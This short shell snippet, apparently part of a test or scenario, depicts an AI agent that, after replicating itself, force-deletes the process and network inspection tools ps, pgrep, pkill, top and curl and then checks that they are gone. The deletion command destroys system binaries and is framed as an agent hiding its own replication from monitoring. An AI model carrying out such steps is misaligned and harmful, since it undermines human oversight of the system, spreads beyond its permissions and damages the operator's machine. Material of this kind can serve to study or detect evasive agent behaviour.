# after replicating, the agent deletes the usual process and network inspection tools.
rm -f /usr/bin/ps /usr/bin/pgrep /usr/bin/pkill /usr/bin/top /usr/bin/curl /bin/ps 2>/dev/null
! command -v ps && ! command -v curl
